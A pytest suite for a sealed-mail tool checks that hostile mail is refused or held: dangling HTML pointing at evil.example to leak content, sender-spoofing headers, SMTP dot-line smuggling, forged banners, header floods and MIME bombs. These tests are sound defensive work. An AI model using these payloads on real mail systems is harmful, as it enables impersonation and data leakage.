"""ATTACKS M: each row, through a real mailbox."""

import base64
import json

import pytest

from pysceau import mail, records
from world import traces
from world.attack import acks, refused
from world.demo import mark
from world.world import TOP

MARKER = "marker-7b1e93ac55d0"


def delivered(demo, member, message):
    """The mail that a post gives; exactly one must be shown."""
    demo.post(member, message)
    member.ok("poll")
    shown = member.shown()
    assert len(shown) == 1, shown
    return shown[0]


# M1, P13: wrappers around a valid envelope

HTML = (b"Content-Type: text/html\r\n\r\n"
        b'<img src="http://evil.example/?')


def wrappers(sealed):
    """Name, and the mail: the same envelope, with an attacker around it."""
    env = mail.find(sealed)
    b64 = base64.encodebytes(env).replace(b"\n", b"\r\n")
    b1 = base64.b64encode(env)
    wide = b"\r\n".join(b1[i:i + 996] for i in range(0, len(b1), 996))
    narrow = b"\n".join(b1[i:i + 60] for i in range(0, len(b1), 60))
    top = b"From: evil@evil.example\r\nReply-To: evil@evil.example\r\n" \
          b"Subject: RE: your result\r\nX-Sceau: path=direct\r\n" \
          b"MIME-Version: 1.0\r\n"
    multi = top + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    part = b"--b\r\nContent-Type: application/vnd.sceau\r\n" \
           b"Content-Transfer-Encoding: base64\r\n\r\n"
    return {
        "html before and after": multi + b"--b\r\n" + HTML + b"\r\n" + part +
        b64 + b"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n",
        "no MIME at all": top + b"\r\n" + b64,
        "preamble and epilogue": multi + b"evil preamble\r\n" + part + b64 +
        b"--b--\r\nevil epilogue\r\n",
        "inside message/rfc822": multi +
        b"--b\r\nContent-Type: message/rfc822\r\n\r\n" + sealed +
        b"\r\n--b--\r\n",
        "wide lines": top + b"\r\n" + wide + b"\r\n\r\nfooter of a list\r\n",
        "narrow lines, LF": top.replace(b"\r\n", b"\n") + b"\n" + narrow +
        b"\n\n-- \nfooter\n",
        "trailing blanks": top + b"\r\n" +
        b64.replace(b"\r\n", b"  \t\r\n"),
        "exchange's mangling": top +
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/plain\r\n\r\n\r\n" + part + b64 + b"\r\n--b--\r\n",
    }


def test_M1_wrapped_by_an_attacker(demo):
    """Only the mail inside is shown, octet for octet, whatever is around."""
    texts = [f"INR {n}" for n in range(8)]
    for text in texts:
        demo.send(text, demo.dr)
    demo.labo.ok("poll")
    sealed = demo.dr.mail()
    demo.empty(demo.dr)
    assert len(sealed) == 8
    wrapped = [list(wrappers(s).values())[n] for n, s in enumerate(sealed)]
    demo.post(demo.dr, *wrapped)
    demo.dr.ok("poll")
    assert sorted(demo.dr.shown()) == sorted(
        demo.mail_of(text, demo.dr) for text in texts)
    assert demo.dr.mail() == []


def test_M1_an_envelope_in_an_opened_envelope_stays_shut(demo, forger):
    inside = demo.sealed("for the doctor")
    outer = demo.mail_of("see below\r\n\r\n" + inside.decode(), demo.dr)
    got = delivered(demo, demo.dr, forger.mail(demo.labo, demo.dr, outer))
    assert got == outer
    assert b"for the doctor" not in got
    assert len(demo.dr.documents()) == 1


def test_M1_ten_envelopes_in_a_mail(demo, forger):
    envs = b"\r\n".join(
        base64.encodebytes(forger.seal(demo.labo, demo.dr, demo.mail_of(
            f"INR {n}", demo.dr))) for n in range(10))
    refused(demo, demo.dr, b"From: a@b.example\r\n\r\n" + envs, "FORMAT")


def test_M1_two_envelopes_the_second_being_bad(demo, forger):
    env = forger.seal(demo.labo, demo.dr, demo.mail_of("INR", demo.dr))
    refused(demo, demo.dr, b"From: a@b.example\r\n\r\n" +
            base64.encodebytes(env) + b"\r\nU0NFQVUB!!!\r\n", "FORMAT")


def test_M1_a_quoted_reply_is_not_a_sealed_mail(demo):
    """An answer that quotes the envelope's lines, beside the real mail."""
    sealed = demo.sealed()
    quoted = b"From: a@b.example\r\nSubject: Re: \r\n\r\n> " + \
        sealed.replace(b"\r\n", b"\r\n> ")
    demo.post(demo.dr, quoted)
    demo.dr.ok("poll")
    assert demo.dr.new() == [] and demo.dr.held() == []
    assert len(demo.dr.mail()) == 1
    demo.post(demo.dr, sealed)
    demo.dr.ok("poll")
    assert len(demo.dr.new()) == 1


# M2: nothing is shown before the whole is authentic

def test_M2_nothing_shown_before_the_last_octet(demo, forger):
    """The network ends in the last octets of a long mail."""
    data = demo.mail_of("x" * 3_000_000, demo.dr)
    demo.post(demo.dr, forger.mail(demo.labo, demo.dr, data))
    size = len(demo.dr.mail()[0])
    seen = [0]
    shown = []

    def cut(piece, up):
        if not up:
            seen[0] += len(piece)
            shown.extend(demo.dr.new())
            if seen[0] > size - 20_000:
                return None
        return piece
    wire = demo.proxy(demo.dovecot.port["pop3s"], change=cut)
    demo.dr.configure(port=wire.port)
    got = demo.dr.sceau("poll")
    assert got.code == 75, got.text()
    assert seen[0] > size // 2 and not shown
    assert demo.dr.new() == [] and demo.dr.held() == []
    demo.dr.configure()
    demo.dr.ok("poll")
    assert demo.dr.shown() == [data]


# M3, P14: who is shown is who is authenticated

SPOOFS = {
    "another member": "From: dr.martin@cabinet.example",
    "the association": "From: association@demo.example",
    "a display name that says another":
        'From: "dr.martin@cabinet.example" <labo.central@labo.example>',
    "two addresses":
        "From: labo.central@labo.example, dr.martin@cabinet.example",
    "two From": "From: labo.central@labo.example\r\n"
                "From: dr.martin@cabinet.example",
    "two From, the same": "From: labo.central@labo.example\r\n"
                          "from: labo.central@labo.example",
    "a group": "From: labo:labo.central@labo.example;",
    "none": "Sender: labo.central@labo.example",
    "a comment": "From: labo.central@labo.example (dr.martin)",
    "a route": "From: <@cabinet.example:labo.central@labo.example>",
    "NUL": "From: labo.central@labo.example\0",
    "bare CR": "From: labo.central@labo.example\rFrom: x@y.example",
    "bare LF": "From: labo.central@labo.example\nFrom: x@y.example",
    "a folded address": "From: labo.central@\r\n labo.example",
    "a homoglyph": "From: labo.c\u0435ntral@labo.example",
    "two Subject": "From: labo.central@labo.example\r\nSubject: other",
    "two Date": "From: labo.central@labo.example\r\n"
                "Date: Mon, 1 Jan 2024 00:00:00 +0000\r\n"
                "Date: Mon, 1 Jan 2025 00:00:00 +0000",
    "a blank before the colon": "From : labo.central@labo.example",
}


def test_P14_M3_member_spoofing_inside(demo, forger):
    """Every trick in one poll: all held as INNER, none shown, and the
    sender told of each."""
    for first in SPOOFS.values():
        inner = (first + "\r\nTo: dr.martin@cabinet.example\r\n"
                 "Subject: INR\r\n\r\n9,8 arrêtez\r\n").encode()
        demo.post(demo.dr, forger.mail(demo.labo, demo.dr, inner))
    got = demo.dr.sceau("poll")
    assert got.code == 65, got.text()
    assert demo.dr.new() == []
    assert demo.dr.classes() == ["INNER"] * len(SPOOFS)
    heard = acks(demo, demo.labo, forger)
    assert [a["state"] for a in heard] == [records.REFUSED] * len(SPOOFS)
    assert demo.dr.sceau("poll").code == 0


def vectors(name):
    return json.loads((TOP / f"tests/vectors/{name}.json").read_text())


def test_M3_every_vector_of_the_inner_rules(demo, forger):
    """tests/vectors/inner.json and from.json, as mail from dr to labo."""
    demo.labo.configure(top={"max_receive": "64 MB"})
    good, bad = [], 0
    cases = [(v["mail"].encode("utf-8", "surrogateescape"), v["expect"])
             for v in vectors("inner")
             if v["address"] == demo.dr.address and "mail" in v]
    cases += [(b"From: " + v["value"].encode() + b"\r\n\r\n" +
               v["name"].encode(), v["expect"]) for v in vectors("from")
              if v["address"] == demo.dr.address]
    for data, expect in cases:
        demo.post(demo.labo, forger.mail(demo.dr, demo.labo, data))
        if expect == "ok":
            good.append(data)
        else:
            bad += 1
    assert len(good) > 20 and bad > 40
    assert demo.labo.sceau("poll").code == 65
    assert sorted(demo.labo.shown()) == sorted(good)
    assert demo.labo.classes() == ["INNER"] * bad


# M4

def test_M4_surreptitious_forwarding(demo, forger):
    """dr seals for durand, as it is, what labo wrote to dr."""
    said = demo.mail_of("INR 9,8", demo.dr)
    env = forger.seal(demo.dr, demo.durand, said)
    demo.post(demo.durand, forger.wrap(demo.dr, demo.durand, env))
    assert demo.durand.sceau("poll").code == 65
    assert demo.durand.classes() == ["INNER"] and demo.durand.new() == []
    assert [a["state"] for a in acks(demo, demo.dr, forger)] == [0x10]


def test_M4_the_same_envelope_to_another(demo):
    """What was sealed for dr is put into durand's mailbox."""
    sealed = demo.sealed()
    refused(demo, demo.durand, sealed, "NOTFORME")


# M5

def test_M5_forged_banners(demo, forger):
    """Outside they are dropped, inside refused; send takes them away."""
    sealed = demo.sealed("INR 2,1")
    outer = b"X-Sceau: sender=demo/association@demo.example#1\r\n" \
            b"Authentication-Results: x; sceau=pass\r\n" + sealed
    got = delivered(demo, demo.dr, outer)
    assert got == demo.mail_of("INR 2,1", demo.dr)
    shown = demo.dr.documents()[0].read_bytes()
    assert shown.count(b"X-Sceau") == 1
    assert mark(shown)["sender"] == demo.labo.identity
    demo.fresh()
    for field in ("X-Sceau: sender=x", "X-SCEAU-Flags: none",
                  "x-sceau: path=direct"):
        demo.post(demo.dr, forger.mail(demo.labo, demo.dr, demo.mail_of(
            "INR", demo.dr, fields=[field])))
    assert demo.dr.sceau("poll").code == 65
    assert demo.dr.classes() == ["INNER"] * 3 and demo.dr.new() == []
    demo.fresh()
    clean = demo.mail_of("INR 3", demo.dr)
    forged = demo.mail_of("INR 3", demo.dr, fields=[
        "X-Sceau: sender=x;\r\n\tpath=direct", "X-Sceau-Note: y"])
    demo.labo.ok("send", "-t", input=forged)
    demo.labo.ok("poll")
    demo.dr.ok("poll")
    assert demo.dr.shown() == [clean]


# M6, P15: never in clear because something failed

def fails_closed(demo, code, *recipients):
    """The mail is refused whole, and nothing of it is kept or leaves."""
    data = demo.mail_of(MARKER, demo.dr, subject=MARKER)
    got = demo.labo.sceau("send", *recipients, input=data)
    assert got.code == code, got.text()
    assert demo.labo.ok("queue", "list", "--json").json() == []
    demo.labo.ok("poll")
    assert all(m.mail() == [] for m in demo.members.values())
    assert traces.in_folders(MARKER.encode(), demo.labo.state) == []


def test_M6_a_recipient_without_a_key(demo):
    fails_closed(demo, 67, "nobody@cabinet.example")


def test_M6_one_recipient_of_several_without_a_key(demo):
    fails_closed(demo, 67, demo.dr.address, "nobody@cabinet.example",
                 demo.petit.address)


def test_M6_no_key_store(demo):
    demo.labo.configure(top={"keystore": str(demo.labo.folder / "none")})
    data = demo.mail_of(MARKER, demo.dr)
    got = demo.labo.sceau("send", demo.dr.address, input=data)
    assert got.code not in (0, 67), got.text()
    demo.labo.configure()
    demo.labo.ok("poll")
    assert demo.dr.mail() == []


def test_P15_M6_the_relay_sees_nothing_of_it(demo):
    """No TLS between here and there (tls = none on this machine): the
    recording proxy sees every octet of SMTP, and the marker in none."""
    # The relay wants STARTTLS; what passes before it is in clear.
    wire = demo.proxy(demo.relay.port["submission"])
    demo.labo.configure(relay_port=wire.port)
    demo.send(MARKER, demo.dr, demo.petit, subject=MARKER)
    demo.labo.ok("poll")
    assert wire.connections >= 1 and len(wire.to_server) > 4000
    assert not traces.in_bytes(MARKER.encode(), wire.seen)
    for member in (demo.dr, demo.hub):
        for m in member.mail():
            assert not traces.in_bytes(MARKER.encode(), m)


def test_M6_clear_mail_of_a_members_address_is_not_shown(demo):
    demo.post(demo.dr, demo.mail_of("INR 2,1", demo.dr))
    demo.dr.ok("poll")
    assert demo.dr.new() == [] and len(demo.dr.mail()) == 1


# M8

def test_M8_smuggling_by_lines_with_a_dot(demo):
    """Lines with a dot, bare LF and CR around them: the same octets."""
    head = demo.mail_of("", demo.dr)[:-2]
    for n, body in enumerate((
            b"a\r\n.\r\nMAIL FROM:<x@y.example>\r\n", b"a\n.\nb\r\n",
            b"a\n.\r\nb\r\n", b"a\r.\rb\r\n", b"..\r\n.b\r\n", b".\r\n")):
        demo.labo.ok("send", demo.dr.address,
                     input=head + b"%d\r\n" % n + body)
    demo.labo.ok("poll")
    demo.dr.ok("poll")
    bodies = sorted(s.partition(b"\r\n\r\n")[2] for s in demo.dr.shown())
    assert len(bodies) == 6
    assert bodies[0].endswith(b"0\r\na\r\n.\r\nMAIL FROM:<x@y.example>\r\n")
    assert bodies[1].endswith(b"1\r\na\n.\nb\r\n")


# M9

def test_M9_a_million_header_fields(demo, forger):
    inner = b"From: labo.central@labo.example\r\n" + b"X: y\r\n" * 1_000_000
    refused(demo, demo.dr, forger.mail(demo.labo, demo.dr,
                                       inner + b"\r\nx\r\n"),
            "INNER", records.REFUSED, forger)


@pytest.mark.parametrize("depth, parts", [(1000, 1), (1, 20_000)])
def test_P17_M9_a_bomb_of_parts_is_held(demo, forger, depth, parts):
    """Documents cannot be taken out of a bomb: it is held sealed, told once,
    and the mail after it arrives."""
    demo.dr.configure(kind="folder")
    lines = [demo.mail_of("", demo.dr)[:-4].decode() +
             "MIME-Version: 1.0\r\n"
             'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n']
    for n in range(depth):
        lines.append(f"--b{n}\r\nContent-Type: multipart/mixed; "
                     f'boundary="b{n + 1}"\r\n\r\n')
    for n in range(parts):
        lines.append(f"--b{depth}\r\nContent-Type: text/plain; name=a.txt"
                     f"\r\n\r\nINR\r\n")
    bomb = "".join(lines).encode()
    demo.post(demo.dr, forger.mail(demo.labo, demo.dr, bomb))
    demo.post(demo.dr, forger.mail(demo.labo, demo.dr,
                                   demo.mail_of("INR 2,1", demo.dr)))
    got = demo.dr.sceau("poll", seconds=60)
    assert got.code == 65, got.text()
    files = demo.dr.documents()
    assert [b"INR 2,1" in p.read_bytes() for p in files] == [True]
    assert demo.dr.classes() == ["POLICY"]
    assert len(demo.dr.mail()) == 0
    assert [a["state"] for a in acks(demo, demo.labo, forger)] == [2]
    assert demo.dr.sceau("poll").code == 0


# M10

def test_M10_the_outer_mail_says_nothing(demo):
    data = demo.mail_of("INR", demo.dr, subject="Bilan de M. Durand",
                        fields=["References: <a@b.example>",
                                "In-Reply-To: <a@b.example>"])
    demo.labo.ok("send", "-t", input=data)
    demo.labo.ok("poll")
    outer, = demo.dr.mail()
    head = outer.partition(b"\r\n\r\n")[0]
    names = [line.partition(b":")[0].lower() for line in head.split(b"\r\n")
             if not line.startswith((b" ", b"\t"))]
    allowed = {b"from", b"to", b"subject", b"date", b"message-id",
               b"mime-version", b"content-type"}
    added = {b"received", b"return-path", b"delivered-to", b"x-peer",
             b"x-mailfrom", b"x-rcptto", b"x-original-to"}
    assert set(names) - added == allowed
    assert b"Subject: Message scelle\r\n" in head + b"\r\n"
    own = data.partition(b"Message-ID: ")[2].partition(b"\r\n")[0]
    assert own not in outer
    assert b"Bilan" not in outer and b"Durand" not in outer
    assert b"08:00:00 +0100" not in head


# M11, P11

def test_P11_M11_no_reaction_to_a_thousand_bad_envelopes(demo, forger):
    """Forged by one who has no key: no mail leaves, one constant line."""
    env = forger.seal(demo.labo, demo.dr, demo.mail_of("INR", demo.dr),
                      key=bytes(32))
    head = 76 + len(demo.labo.identity) + len(demo.dr.identity)
    bad = []
    for n in range(1000):
        salt = n.to_bytes(32, "big")
        bad.append(forger.wrap(demo.labo, demo.dr, env[:head - 64] + salt +
                               env[head - 32:]))
    demo.post(demo.dr, *bad)
    got = demo.dr.sceau("poll")
    assert got.code == 65, got.text()
    assert demo.dr.new() == []
    assert demo.dr.classes() == ["HEADER"] * 1000
    demo.dr.ok("poll")
    assert demo.dr.ok("queue", "list", "--json").json() == []
    for member in demo.members.values():
        assert member.mail() == []
    lines = {line.partition(b" ")[2] for line in got.stderr.splitlines()
             if b"in.held" in line}
    assert len(lines) == 1, "the line must say nothing of the envelope"
